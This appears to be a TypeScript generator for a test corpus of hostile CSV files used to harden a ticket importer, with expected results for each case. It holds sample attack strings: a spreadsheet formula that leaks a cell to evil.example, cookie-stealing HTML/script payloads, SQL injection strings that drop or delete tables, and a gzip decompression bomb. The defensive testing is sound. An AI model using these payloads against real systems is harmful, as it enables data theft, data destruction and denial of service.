// A corpus of hostile files for the importer: empty, binary, truncated, huge
// fields, absurdly wide headers, a row of 10^6 fields, a line past the reader's
// buffer, a gzip bomb, only delimiters, a ZIP, NUL bytes, mixed encodings, a
// stray BOM, and text that a spreadsheet, a browser or a database might run
// (formulas, HTML, SQL). Generated, never committed: the big cases are megabytes.
//
//   node --import tsx test/hostile/generate.ts OUTDIR
//
// Each case (except the refusals) puts valid rows around the hostile ones, so a
// test can check that the rest of the file still loads; `EXPECT` says what an
// import of each case must give.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { gzipSync } from 'node:zlib';
import { mulberry32 } from '../../scripts/prng';
import gbk from '../integration/gbk';

export const HEADER = 'Ticket ID,Created at,Subject,Description,Priority,Status';

/** A valid row: ticket `${prefix}${n}`, created in March 2024. */
export function goodRow(n: number, prefix = 'T'): string {
	const day = String(1 + (n % 28)).padStart(2, '0');
	const minute = String(n % 60).padStart(2, '0');
	return `${prefix}${n},2024-03-${day} 09:${minute},Subject ${n},Description of ticket ${n},P2,open`;
}

/** Text a spreadsheet would run as a formula: stored as it is, exported with a leading '. */
export const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', '+1+1', '-2+3', '@SUM(A1)', '=1+1'];
/** Markup a browser would run: stored and served as text. */
export const HTML = ['<script>alert(1)</script>', '<img src=x onerror="alert(document.cookie)">', '</textarea><svg onload=alert(1)>'];
/** SQL that a string-built query would run: stored as text. */
export const SQL = ["'; DROP TABLE tickets; --", "1' OR '1'='1", 'Robert"); DROP TABLE imports;--', "x'); DELETE FROM tickets; --"];

export const HUGE_FIELD_BYTES = 10 * 1024 * 1024;
export const HUGE_LINE_BYTES = 20 * 1024 * 1024;
/** Rows with Chinese text, written as UTF-8 and as GBK in the mixed-encoding cases. */
export const MIXED_UTF8 = ['U1,2024-03-01 10:00,支付失败,付款时提示失败,P1,open', 'U2,2024-03-02 10:00,登录异常,无法登录账户,P2,open'];
export const MIXED_GBK = ['G1,2024-03-20 10:00,退款进度,退款一直没有到账,P1,open', 'G2,2024-03-21 10:00,物流查询,快递三天未更新,P0,open'];
export const WIDE_COLUMNS = 5_000;
export const WIDEST_COLUMNS = 1_000_000;
/** Fields in the one wide row of `wide-row` (2 MB): DuckDB's reader took time quadratic in them. */
export const WIDE_ROW_FIELDS = 1_000_000;
/** What `gzip-bomb` expands to (a 3 MB file): far past the cap of a server with CAUSEWAY_MAX_UPLOAD_MB = BOMB_UPLOAD_MB. */
export const BOMB_EXPANDED_BYTES = 1024 * 1024 * 1024;
export const BOMB_UPLOAD_MB = 64;

/** What importing a case must give. */
export type Expectation =
	| { refused: RegExp }
	| {
			/** Ticket ids that must load. */
			loaded: string[];
			/** Rejected rows: line number (1-based, in the file) and a pattern for the reason. */
			rejects: { line: number; reason: RegExp }[];
	  };

export const EXPECT: Record<string, Expectation> = {};

/** A CSV field, quoted when it needs to be. */
function q(v: string): string {
	return /[",\r\n]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v;
}

function rows(from: number, to: number, prefix = 'T'): string[] {
	const out: string[] = [];
	for (let n = from; n <= to; n++) out.push(goodRow(n, prefix));
	return out;
}

function ids(from: number, to: number, prefix = 'T'): string[] {
	const out: string[] = [];
	for (let n = from; n <= to; n++) out.push(`${prefix}${n}`);
	return out;
}

const utf8 = (s: string) => Buffer.from(s, 'utf8');

type Case = () => string | Uint8Array;

const CASES: Record<string, Case> = {
	empty: () => '',

	// a PNG header, then noise
	'binary-png': () => {
		const rnd = mulberry32(1);
		const bytes = new Uint8Array(64 * 1024).map(() => Math.floor(rnd() * 256));
		bytes.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52], 0);
		return bytes;
	},

	// noise with no magic number at all
	'binary-random': () => {
		const rnd = mulberry32(2);
		return new Uint8Array(64 * 1024).map(() => Math.floor(rnd() * 256));
	},

	// the export was cut while a quoted field was being written: the last row never closes its quote
	'truncated-quote': () => [HEADER, ...rows(1, 5), 'T6,2024-03-07 10:00,Cut off,"This description was cut off in the mid'].join('\n'),

	// the first row's description is 10 MB (quoted, with commas): the sniffer sees only its start
	'huge-field': () => {
		const big = 'x, '.repeat(HUGE_FIELD_BYTES / 3) + 'end';
		return [HEADER, `T1,2024-03-05 10:00,Huge,"${big}",P2,open`, ...rows(2, 7)].join('\n') + '\n';
	},

	// a 20 MB line in the middle: longer than the reader takes
	'huge-line': () => {
		const big = 'y'.repeat(HUGE_LINE_BYTES);
		return [HEADER, ...rows(1, 3), `T4,2024-03-05 10:00,Huge,${big},P2,open`, ...rows(5, 7)].join('\n') + '\n';
	},

	// a 40 MB quoted field: past DuckDB's 32 MB read buffer, where its reader dropped the row without a reject
	'line-over-buffer': () => [HEADER, ...rows(1, 3), `T4,2024-03-05 10:00,Huge,"${'z, '.repeat((40 << 20) / 3)}",P2,open`, ...rows(5, 7)].join('\n') + '\n',

	// a gzip export cut off half way
	'gzip-truncated': () => {
		const gz = gzipSync([HEADER, ...rows(1, 5000)].join('\n') + '\n');
		return gz.subarray(0, Math.floor(gz.length / 2));
	},

	// a realistic header followed by 4,994 more columns; every row has 5,000 fields
	'columns-5000': () => {
		const extra = WIDE_COLUMNS - 6;
		const head = HEADER + Array.from({ length: extra }, (_, i) => `,Extra ${i + 1}`).join('');
		const fill = ','.repeat(extra);
		return [head, ...rows(1, 5).map((r) => r + fill)].join('\n') + '\n';
	},

	// a header line of 1,000,000 columns (commas), then ordinary rows
	'columns-1m': () => {
		const head = HEADER + ','.repeat(WIDEST_COLUMNS - 6);
		return [head, ...rows(1, 3)].join('\n') + '\n';
	},

	// 30 good rows, then one row of 10^6 fields: must be rejected in linear time, the rest loads
	'wide-row': () => [HEADER, ...rows(1, 30), 'W1,2024-03-05 10:00' + ',x'.repeat(WIDE_ROW_FIELDS - 2)].join('\n') + '\n',

	// a few trailing delimiters (spreadsheets write them) and rows a field or two too wide
	'wide-trailing': () => [HEADER, ...rows(1, 3).map((r) => r + ',,,'), `${goodRow(4)},extra`, ...rows(5, 30), `${goodRow(31)},,x,`].join('\n') + '\n',

	// 3 MB that expands to 1 GB: gzip members of 64 MB of the same row, one after the other (a stream of members is one gzip file)
	'gzip-bomb': () => {
		const row = `${goodRow(1)}\n`;
		const member = gzipSync(row.repeat(Math.floor((64 << 20) / row.length)), { level: 9 });
		const first = gzipSync(`${HEADER}\n`);
		return Buffer.concat([first, ...Array.from({ length: BOMB_EXPANDED_BYTES / (64 << 20) }, () => member)]);
	},

	// a field of 2 MB of escaped quotes (""), deeply "nested" as a parser sees it
	'nested-quotes': () => [HEADER, ...rows(1, 3), `Q1,2024-03-05 10:00,Quotes,"${'""'.repeat(1 << 20)}",P2,open`, ...rows(4, 6)].join('\n') + '\n',

	// nothing but delimiters and line breaks
	'only-delimiters': () => (',,,,,,\n'.repeat(50_000)),

	// a ZIP archive (an .xlsx is one) sent as .csv
	'zip-as-csv': () => Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0, 8, 0]), Buffer.from('[Content_Types].xml'), Buffer.alloc(2000, 7)]),

	// NUL bytes inside fields, in a file that is otherwise text
	'nul-bytes': () => [HEADER, ...rows(1, 40), 'T41,2024-03-10 10:00,Nul\0in subject,Desc\0ription,P2,open', ...rows(42, 80)].join('\n') + '\n',

	// UTF-8 rows and GBK rows near the top, where the sniffer sees both
	'mixed-encoding-head': () =>
		Buffer.concat([
			utf8(`${HEADER}\n${MIXED_UTF8.join('\n')}\n`),
			...MIXED_GBK.map((r) => Buffer.concat([gbk(r), utf8('\n')])),
			utf8(rows(1, 2).join('\n') + '\n')
		]),

	// UTF-8 rows (Chinese text) for the first ~350 KB (past what the sniffer reads), then rows saved as GBK: two exports pasted together
	'mixed-encoding': () => {
		const first = rows(1, 6000).map((r) => r.replace('Description of ticket', '支付失败，请处理'));
		const gbkRows = ['G1,2024-03-20 10:00,登录异常,无法登录,P1,open', 'G2,2024-03-21 10:00,支付失败,请尽快处理,P0,open'];
		const tail = rows(6001, 6003);
		return Buffer.concat([utf8([HEADER, ...first].join('\n') + '\n'), ...gbkRows.map((r) => Buffer.concat([gbk(r), utf8('\n')])), utf8(tail.join('\n') + '\n')]);
	},

	// two exports concatenated: the second one's BOM and header in the middle of the file, and a BOM before a row
	'bom-middle': () => [HEADER, ...rows(1, 3), `\ufeff${HEADER}`, ...rows(4, 6), `\ufeff${goodRow(7)}`, ...rows(8, 9)].join('\r\n') + '\r\n',

	// formulas a spreadsheet would run
	formula: () =>
		[HEADER, ...rows(1, 2), ...FORMULAS.map((f, i) => `F${i + 1},2024-03-1${i} 10:00,${q(f)},${q(f)},P2,open`), ...rows(3, 4)].join('\n') + '\n',

	// markup a browser would run
	html: () => [HEADER, ...rows(1, 2), ...HTML.map((h, i) => `H${i + 1},2024-03-1${i} 10:00,${q(h)},${q(h)},P2,open`), ...rows(3, 4)].join('\n') + '\n',

	// SQL a string-built query would run, in values, in a ticket id and in a column name
	sql: () => {
		const head = `${HEADER},${q("Notes'); DROP TABLE tickets; --")}`;
		const body = [
			...rows(1, 2).map((r) => `${r},ok`),
			...SQL.map((s, i) => `S${i + 1},2024-03-1${i} 10:00,${q(s)},${q(s)},P2,open,${q(s)}`),
			`${q("S9'; DROP TABLE tickets; --")},2024-03-19 10:00,id,id,P2,open,`,
			...rows(3, 4).map((r) => `${r},ok`)
		];
		return [head, ...body].join('\n') + '\n';
	}
};

EXPECT.empty = { refused: /^The file is empty\.$/ };
EXPECT['binary-png'] = { refused: /^This file is a PNG image, not a CSV export\.$/ };
EXPECT['binary-random'] = { refused: /^This file is binary, not a CSV export/ };
EXPECT['truncated-quote'] = { loaded: ids(1, 5), rejects: [{ line: 7, reason: /^a quoted field that is never closed$/ }] };
EXPECT['huge-field'] = { loaded: ids(1, 7), rejects: [] };
EXPECT['huge-line'] = { loaded: [...ids(1, 3), ...ids(5, 7)], rejects: [{ line: 5, reason: /^the line is longer than 16 MB$/ }] };
EXPECT['line-over-buffer'] = { loaded: [...ids(1, 3), ...ids(5, 7)], rejects: [{ line: 5, reason: /^the line is longer than 16 MB$/ }] };
EXPECT['gzip-truncated'] = { refused: /^The file could not be read to the end/ };
EXPECT['columns-5000'] = { refused: /^The header has 5,000 columns; at most 1,000 are supported/ };
EXPECT['columns-1m'] = { refused: /^The header has [\d,]+ or more columns; at most 1,000 are supported/ };
EXPECT['wide-row'] = { loaded: ids(1, 30), rejects: [{ line: 32, reason: new RegExp(`^expected 6 fields, found ${WIDE_ROW_FIELDS}$`) }] };
EXPECT['wide-trailing'] = {
	loaded: [...ids(1, 3), ...ids(5, 30)],
	rejects: [
		{ line: 5, reason: /^expected 6 fields, found 7$/ },
		{ line: 32, reason: /^expected 6 fields, found 9$/ }
	]
};
EXPECT['gzip-bomb'] = { refused: /^The gzip file expands to more than 128 MB, the most a compressed upload may hold \(2 × CAUSEWAY_MAX_UPLOAD_MB\)\.$/ };
EXPECT['nested-quotes'] = { loaded: [...ids(1, 6), 'Q1'], rejects: [] };
EXPECT['only-delimiters'] = { refused: /^No header row found/ };
EXPECT['zip-as-csv'] = { refused: /^This file is a ZIP archive, not an Excel workbook/ };
EXPECT['nul-bytes'] = { loaded: [...ids(1, 40), ...ids(42, 80)], rejects: [{ line: 42, reason: /^NUL bytes in the row/ }] };
EXPECT['mixed-encoding-head'] = { loaded: ['U1', 'U2', 'G1', 'G2', 'T1', 'T2'], rejects: [] };
EXPECT['mixed-encoding'] = {
	loaded: ids(1, 6003),
	rejects: [
		{ line: 6002, reason: /^bytes that are not valid text in the chosen encoding$/ },
		{ line: 6003, reason: /^bytes that are not valid text in the chosen encoding$/ }
	]
};
EXPECT['bom-middle'] = { loaded: ids(1, 9), rejects: [{ line: 5, reason: /creation time "Created at"/ }] };
EXPECT.formula = { loaded: [...ids(1, 4), ...FORMULAS.map((_, i) => `F${i + 1}`)], rejects: [] };
EXPECT.html = { loaded: [...ids(1, 4), ...HTML.map((_, i) => `H${i + 1}`)], rejects: [] };
EXPECT.sql = { loaded: [...ids(1, 4), ...SQL.map((_, i) => `S${i + 1}`), "S9'; DROP TABLE tickets; --"], rejects: [] };

/** Write every case into `dir`; returns case name → path. */
export function generateCorpus(dir: string): Record<string, string> {
	mkdirSync(dir, { recursive: true });
	const out: Record<string, string> = {};
	for (const [name, make] of Object.entries(CASES)) {
		const path = join(dir, `${name}.csv`);
		writeFileSync(path, make());
		out[name] = path;
	}
	return out;
}

if (process.argv[1] && resolve(process.argv[1]) === resolve(import.meta.filename ?? '')) {
	const dir = process.argv[2];
	if (!dir) {
		console.error('usage: node --import tsx test/hostile/generate.ts OUTDIR');
		process.exit(2);
	}
	for (const [name, path] of Object.entries(generateCorpus(resolve(dir)))) console.log(`${name}\t${path}`);
}
